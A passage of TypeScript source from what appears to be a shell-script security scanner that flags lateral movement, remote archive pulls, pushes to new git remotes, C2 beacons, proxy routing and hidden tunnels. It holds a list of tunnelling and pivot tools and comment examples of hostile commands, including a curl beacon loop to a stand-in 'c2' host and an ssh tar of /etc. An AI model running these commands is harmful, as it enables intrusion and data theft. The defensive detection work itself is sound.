    case "cp": case "mv": case "ditto": case "rsync": case "split": { const ops = a.filter((x) => !x.startsWith("-")); return ops.length >= 2 ? ops[ops.length - 1] : undefined; }
    case "base64": case "xxd": return after("-o", "--output");
    default: return isCapture(c) ? [...a].reverse().find((x) => !x.startsWith("-") && /[./]/.test(x) && !/^:[0-9]/.test(x)) : undefined;
  }
}

const TUNNELS: ReadonlySet<string> = new Set(["ngrok", "cloudflared", "devtunnel", "bore", "frpc", "chisel", "zrok", "loclx", "tunnelto", "pagekite", "pagekite.py", "tmole", "rathole", "gost", "wstunnel", "autossh", "socat", "ligolo-agent", "iodine", "dns2tcpc"]);
const SSH_EXES = /^(?:ssh|scp|sftp|rsync|sshpass|autossh|mosh)$/;
/** The remote host an ssh/scp/rsync command names: first `user@host` or `host:` word that is not an option value. */
function remoteHost(c: SimpleCmd): string | undefined {
  const a = c.exe === "sshpass" ? c.args.slice(c.args.findIndex((x) => SSH_EXES.test(x)) + 1) : c.args;
  for (let k = 0; k < a.length; k++) {
    const x = a[k] ?? "";
    if (x.startsWith("-")) { if (/^-[ioplFJEcmSRLDWbBeO]$/.test(x)) k++; continue; }
    const m = /^(?:[^@/\s]{1,64}@)?([^:/\s]{1,255})(?::|$)/.exec(x);
    if (c.exe === "ssh" || c.exe === "autossh" || c.exe === "mosh" || x.includes(":")) return m?.[1];
  }
  return undefined;
}

/**
 * Movement between machines: remote commands run over a host list, tooling pushed to another
 * host's temp dir and then run there, remote archives of /etc or homes streamed back, pushes
 * of the repository to a remote the script just added, beacons that report host identity.
 */
function lateral(ctx: Ctx): void {
  const cmds = ctx.parsed.cmds;
  const pushed: { host: string; path: string; base: string }[] = [];
  const newRemotes = new Set<string>();
  cmds.forEach((c, i) => {
    const isSsh = SSH_EXES.test(c.exe);
    if (isSsh && c.inLoop !== "" && c.dynamicArgs && c.depth === 0) {
      const host = remoteHost(c) ?? "";
      const hard = c.exe === "sshpass" || /StrictHostKeyChecking[ =]?no|UserKnownHostsFile[ =]?\/dev\/null|BatchMode/i.test(c.args.join(" ")) || /^(?:[0-9]{1,3}\.){3}\$/.test(host) || /(?:^|\.)\$\{?[A-Za-z_]{1,20}\}?$/.test(host) && /[0-9]\./.test(host);
      addFinding(ctx, { layer: "dataflow", rule_id: hard ? "shell.flow.remote-exec-sweep" : "shell.flow.remote-exec-loop", decision: hard ? "block" : "audit", taxonomy: "unauthorized-execution/lateral-movement/host-list-remote-exec", description: hard ? "remote logins swept over a host list without host-key or password prompts" : "remote commands run over a list of hosts", cmd: c });
    }
    // `scp tool host:/tmp/` … `ssh host /tmp/tool`: dropped, then run.
    if ((c.exe === "scp" || c.exe === "rsync" || c.exe === "sshpass") && c.depth === 0) {
      const ops = c.args.filter((a) => !a.startsWith("-"));
      const dest = ops.at(-1) ?? "";
      const m = /^(?:[^@\s]{1,64}@)?([^:\s]{1,255}):((?:\/tmp|\/dev\/shm|\/var\/tmp|~?\/?\.)[^\s]{0,200})$/.exec(dest);
      const base = (ops.at(-2) ?? "").split("/").at(-1) ?? "";
      if (m?.[1] && m[2] !== undefined && ops.length >= 2) pushed.push({ host: m[1], path: m[2].endsWith("/") ? `${m[2]}${base}` : m[2], base: m[2].endsWith("/") ? base : m[2].split("/").at(-1) ?? "" });
    }
    if (c.via.at(-1) === "ssh" && c.depth > 0 && pushed.length > 0) {
      const parent = cmds.slice(0, i).reverse().find((p) => p.depth < c.depth && (p.exe === "ssh" || p.exe === "sshpass"));
      const host = parent ? remoteHost(parent) : undefined;
      // Run as the program, or handed to a shell/interpreter as its script.
      const runs = SHELLS.has(c.exe) || INTERPRETERS.has(c.exe) || c.exe === "nohup" || c.exe === "setsid" ? [c.rawExe, ...c.args.filter((a) => !a.startsWith("-"))] : [c.rawExe];
      const same = (r: string, p: { path: string; base: string }): boolean => p.base !== "" && (r === p.path || r === p.base || r === `./${p.base}` || r.endsWith(`/${p.base}`));
      if (pushed.some((p) => (host === undefined || host === p.host) && runs.some((r) => same(r, p))))
        addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.remote-tool-exec", decision: "block", taxonomy: "unauthorized-execution/lateral-movement/remote-tool-transfer-exec", description: "a file copied to another host's temp directory is run there", cmd: c });
    }
    // `ssh host 'tar czf - /etc' > etc.tgz`: another machine's secrets pulled back here.
    if (c.via.includes("ssh") && c.depth > 0) {
      const create = (c.exe === "tar" || c.exe === "gtar" || c.exe === "bsdtar") && c.args.some((a) => /^-?[a-zA-Z]{0,8}c[a-zA-Z]{0,8}$/.test(a) || a === "--create");
      const sibling = cmds.slice(0, i).reverse().find((p) => p.depth === c.depth && p.exe === "cd");
      const srcs = ARCHIVERS.has(c.exe) ? archiveSources(c) : [];
      const inTree = sibling !== undefined && SENSITIVE_TREE.test(sibling.args[0] ?? "") && srcs.some((a) => a === "*" || a === "." || a === "./");
      if ((create && (srcs.some((a) => SENSITIVE_TREE.test(a) || /^\/(?:etc|home|Users|root)(?:\/|$)/.test(a)) || inTree)) || (c.exe === "dd" && c.args.some((a) => /^if=\/dev\/(?:sd|nvme|xvd|vd|disk|hd|mmcblk)/.test(a))))
        addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.remote-archive-pull", decision: "block", taxonomy: "data-exfiltration/collection/remote-archive-pull", description: "system or home directories archived on a remote host and streamed back", cmd: c });
    }
    if (c.exe === "git" && c.args[0] === "remote" && (c.args[1] === "add" || c.args[1] === "set-url") && c.args[2]) newRemotes.add(c.args[2]);
    if (c.exe === "git" && c.args[0] === "push") {
      const ops = c.args.slice(1).filter((a) => !a.startsWith("-"));
      const toNew = ops[0] !== undefined && newRemotes.has(ops[0]) && ops[0] !== "origin";
      const toUrl = ops[0] !== undefined && /^(?:https?:\/\/|git@|ssh:\/\/)/.test(ops[0]) && c.args.some((a) => a === "--mirror" || a === "--all");
      if (toNew || toUrl)
        addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.push-new-remote", decision: "audit", taxonomy: "data-exfiltration/version-control/push-to-new-remote", description: "the repository is pushed to a remote added in the same script", cmd: c });
    }
    // `while true; do curl "https://c2/beat?h=$(hostname)"; sleep 60; done`: a beacon.
    if (c.inLoop === "infinite" && isNet(ctx, i) && /\$\((?:hostname|whoami|id|uname|cat \/etc\/(?:hostname|machine-id))\b|\$\{?(?:HOSTNAME|USER|LOGNAME)\}?/.test(ctx.parsed.source.slice(c.span.start, c.span.end)))
      addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.beacon", decision: "block", taxonomy: "unauthorized-execution/remote-access/c2-beacon", description: "an endless loop reports this host's identity over the network", cmd: c });
    if (c.via.some((v) => v === "torsocks" || v === "proxychains" || v === "proxychains4" || v === "tsocks"))
      addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.anonymized-traffic", decision: "audit", taxonomy: "unauthorized-execution/remote-access/anonymizing-proxy", description: `'${redactPreview(c.exe, 16)}' is routed through Tor or a proxy chain`, cmd: c });
    // A tunnel client dropped in a temp dir, or detached with its output thrown away.
    if (TUNNELS.has(c.exe) && (/^(?:\/tmp\/|\/dev\/shm\/|\/var\/tmp\/|\/private\/tmp\/)/.test(c.rawExe) || /\/\.[^/]{1,40}\//.test(c.rawExe) || ((c.via.includes("nohup") || c.via.includes("setsid") || c.background) && c.redirs.some((r) => r.target === "/dev/null"))))
      addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.hidden-tunnel", decision: "block", taxonomy: "unauthorized-execution/remote-access/public-tunnel", description: `tunnel client '${redactPreview(c.exe, 16)}' runs from a staging path or detached and silenced`, cmd: c });
    if (c.inLoop === "infinite" && (isCapture(c) || CLIPBOARD_READ(c)))
      addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.capture-loop", decision: "block", taxonomy: "reconnaissance/collection/continuous-capture", description: "screen, microphone or clipboard captured in an endless loop", cmd: c });
  });
}
